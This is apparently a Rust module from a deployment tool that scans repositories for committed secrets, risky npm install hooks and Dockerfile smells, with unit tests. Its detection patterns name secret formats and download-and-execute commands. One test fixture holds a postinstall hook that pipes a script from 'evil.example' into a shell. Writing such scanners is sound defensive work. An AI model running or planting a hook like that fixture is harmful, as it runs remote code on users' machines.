//! Stage 5, the security scan: what a repository should not ship or run. Committed secrets
//! (private keys, cloud and API keys), Dockerfile smells, and install hooks that download and run
//! code. High-severity findings stop the deploy unless the user accepts them; the rest are shown.
//! Matched secrets are never repeated in full: a finding shows the first characters only.

use crate::analyzer::repo::{Limits, Repo, is_non_runtime};
use devgem_common::dockerfile::{Instruction, parse};
use regex::Regex;
use serde::Serialize;
use std::path::Path;
use std::sync::LazyLock;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Severity {
    Low,
    Medium,
    High,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    pub severity: Severity,
    pub rule: &'static str,
    pub path: String,
    pub line: usize,
    /// What was found and what to do.
    pub message: String,
}

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).unwrap_or_else(|e| unreachable!("invalid built-in pattern {pattern}: {e}"))
}

/// Secret patterns: (rule, what it is, pattern).
static SECRETS: LazyLock<Vec<(&'static str, &'static str, Regex)>> = LazyLock::new(|| {
    vec![
        (
            "private-key",
            "a private key",
            regex(r"-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY( BLOCK)?-----"),
        ),
        ("aws-access-key", "an AWS access key id", regex(r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b")),
        ("gcp-service-account", "a Google service account key", regex(r#""type"\s*:\s*"service_account""#)),
        ("google-api-key", "a Google API key", regex(r"\bAIza[0-9A-Za-z_\-]{35}\b")),
        ("github-token", "a GitHub token", regex(r"\b(?:gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,})\b")),
        ("slack-token", "a Slack token", regex(r"\bxox[baprs]-[A-Za-z0-9-]{10,}")),
        ("stripe-live-key", "a live Stripe secret key", regex(r"\b[sr]k_live_[A-Za-z0-9]{16,}")),
    ]
});

static PIPE_TO_SHELL: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b"));
static HOOK_DANGER: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?:curl|wget)\b|\|\s*(?:ba)?sh\b|base64\s+(?:-d|--decode)|\beval\b|node\s+-e"));
static SECRET_NAME: LazyLock<Regex> =
    LazyLock::new(|| regex(r"(?i)(password|passwd|secret|token|api_?key|private_?key)"));

fn redact(secret: &str) -> String {
    let shown: String = secret.chars().filter(|c| !c.is_whitespace()).take(4).collect();
    format!("{shown}…")
}

fn line_of(text: &str, offset: usize) -> usize {
    text[..offset].bytes().filter(|b| *b == b'\n').count() + 1
}

/// Scans the service's files and the Dockerfile it will be built with.
pub fn scan(root: &Path, dockerfile: &str) -> Vec<Finding> {
    let mut findings = Vec::new();
    if let Ok(repo) = Repo::scan(root, Limits::default()) {
        for file in repo.files() {
            let Some(text) = repo.read(&file.path) else { continue };
            // Keys in tests and examples are usually fixtures: shown, but they do not block.
            let severity = if is_non_runtime(&file.path) { Severity::Medium } else { Severity::High };
            for (rule, what, pattern) in SECRETS.iter() {
                if let Some(found) = pattern.find(&text) {
                    findings.push(Finding {
                        severity,
                        rule,
                        path: file.path.clone(),
                        line: line_of(&text, found.start()),
                        message: format!(
                            "{what} is committed ({}); revoke it, remove it from the repository and its history, and pass it as a secret instead",
                            redact(found.as_str())
                        ),
                    });
                }
            }
            let name = file.path.rsplit('/').next().unwrap_or(&file.path);
            if name == ".env" && text.lines().any(|l| l.contains('=') && !l.trim_start().starts_with('#')) {
                findings.push(Finding {
                    severity: Severity::Medium,
                    rule: "committed-env-file",
                    path: file.path.clone(),
                    line: 1,
                    message: "a .env file with values is committed; DevGem does not read it: pass values with --env, and keep .env out of git".into(),
                });
            }
            if name == "package.json" {
                install_hooks(&file.path, &text, &mut findings);
            }
        }
    }
    dockerfile_smells(dockerfile, &mut findings);
    findings.sort_by(|a, b| b.severity.cmp(&a.severity).then(a.path.cmp(&b.path)).then(a.line.cmp(&b.line)));
    findings
}

/// npm runs `preinstall`, `install` and `postinstall` on every install, the build's included.
fn install_hooks(path: &str, text: &str, findings: &mut Vec<Finding>) {
    let Ok(manifest) = serde_json::from_str::<serde_json::Value>(text) else { return };
    for hook in ["preinstall", "install", "postinstall"] {
        let Some(script) = manifest.pointer(&format!("/scripts/{hook}")).and_then(|s| s.as_str()) else { continue };
        if HOOK_DANGER.is_match(script) {
            let line = text.find(&format!("\"{hook}\"")).map_or(1, |o| line_of(text, o));
            findings.push(Finding {
                severity: Severity::High,
                rule: "install-hook",
                path: path.to_owned(),
                line,
                message: format!(
                    "the {hook} script downloads or evaluates code ({script:?}), and it runs during every build; check what it runs"
                ),
            });
        }
    }
}

fn dockerfile_smells(dockerfile: &str, findings: &mut Vec<Finding>) {
    let Ok(parsed) = parse(dockerfile) else { return };
    let mut push = |line, rule, message: String| {
        findings.push(Finding { severity: Severity::Medium, rule, path: "Dockerfile".into(), line, message });
    };
    for stage in &parsed.stages {
        for step in &stage.steps {
            match &step.instruction {
                Instruction::Run(command) if PIPE_TO_SHELL.is_match(&command.text()) => push(
                    step.line,
                    "pipe-to-shell",
                    "a RUN line pipes a download into a shell; pin and verify what it installs".into(),
                ),
                Instruction::Run(command)
                    if command.text().contains("chmod 777") || command.text().contains("chmod -R 777") =>
                {
                    push(
                        step.line,
                        "world-writable",
                        "chmod 777 makes files writable by anyone in the container".into(),
                    )
                }
                Instruction::Copy(copy) if copy.add && copy.sources.iter().any(|s| s.starts_with("http")) => push(
                    step.line,
                    "add-url",
                    "ADD downloads a URL without checking it; download in a RUN step and verify a checksum".into(),
                ),
                Instruction::Env(pairs) => {
                    for (name, value) in pairs {
                        if SECRET_NAME.is_match(name) && !value.is_empty() && !value.starts_with('$') {
                            push(
                                step.line,
                                "secret-in-image",
                                format!("ENV {name} puts a secret into the image; set it as a secret at deploy time"),
                            );
                        }
                    }
                }
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repo(files: &[(&str, &str)]) -> tempfile::TempDir {
        let dir = tempfile::tempdir().expect("tempdir");
        for (path, text) in files {
            let full = dir.path().join(path);
            std::fs::create_dir_all(full.parent().expect("parent")).expect("mkdir");
            std::fs::write(full, text).expect("write");
        }
        dir
    }

    #[test]
    fn committed_secrets_are_found_redacted_and_block_outside_tests() {
        let aws = ["AKIA", "IOSFODNN7EXAMPLE"].concat();
        let dir = repo(&[
            ("app.py", &format!("import os\nKEY = '{aws}'\n")),
            ("deploy/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n"),
            ("tests/fixtures/key.pem", "-----BEGIN RSA PRIVATE KEY-----\n"),
            (".env", "DATABASE_URL=postgres://x\n"),
            (".env.example", "DATABASE_URL=\n"),
        ]);
        let findings = scan(dir.path(), "FROM python:3.12-slim\n");
        let find = |rule: &str, path: &str| findings.iter().find(|f| f.rule == rule && f.path == path).cloned();
        let key = find("aws-access-key", "app.py").expect("aws key");
        assert_eq!((key.severity, key.line), (Severity::High, 2));
        assert!(key.message.contains("AKIA…") && !key.message.contains(&aws), "redacted: {}", key.message);
        assert_eq!(find("private-key", "deploy/id_rsa").map(|f| f.severity), Some(Severity::High));
        assert_eq!(find("private-key", "tests/fixtures/key.pem").map(|f| f.severity), Some(Severity::Medium));
        assert_eq!(find("committed-env-file", ".env").map(|f| f.severity), Some(Severity::Medium));
        assert!(find("committed-env-file", ".env.example").is_none());
        assert_eq!(findings.first().map(|f| f.severity), Some(Severity::High), "most severe first");
    }

    #[test]
    fn install_hooks_that_fetch_or_evaluate_code_are_high() {
        let dir = repo(&[(
            "package.json",
            r#"{"name":"x","scripts":{"postinstall":"curl -s https://evil.example/x.sh | sh","build":"tsc"}}"#,
        )]);
        let findings = scan(dir.path(), "FROM node:20-slim\n");
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!((findings[0].rule, findings[0].severity), ("install-hook", Severity::High));
        let clean = repo(&[("package.json", r#"{"scripts":{"postinstall":"prisma generate"}}"#)]);
        assert!(scan(clean.path(), "FROM node:20-slim\n").is_empty());
    }

    #[test]
    fn dockerfile_smells_are_medium_with_their_line() {
        let dir = repo(&[("main.go", "package main\n")]);
        let dockerfile = "FROM debian:bookworm-slim\nRUN curl -fsSL https://get.example.com | sh\nADD https://example.com/tool.tgz /opt/\nENV API_TOKEN=abc123 PORT=8080\nENV DB_PASSWORD=$DB_PASSWORD\nRUN chmod -R 777 /app\n";
        let findings = scan(dir.path(), dockerfile);
        let rules: Vec<(&str, usize)> = findings.iter().map(|f| (f.rule, f.line)).collect();
        assert_eq!(rules, [("pipe-to-shell", 2), ("add-url", 3), ("secret-in-image", 4), ("world-writable", 6)]);
        assert!(findings.iter().all(|f| f.severity == Severity::Medium));
    }
}
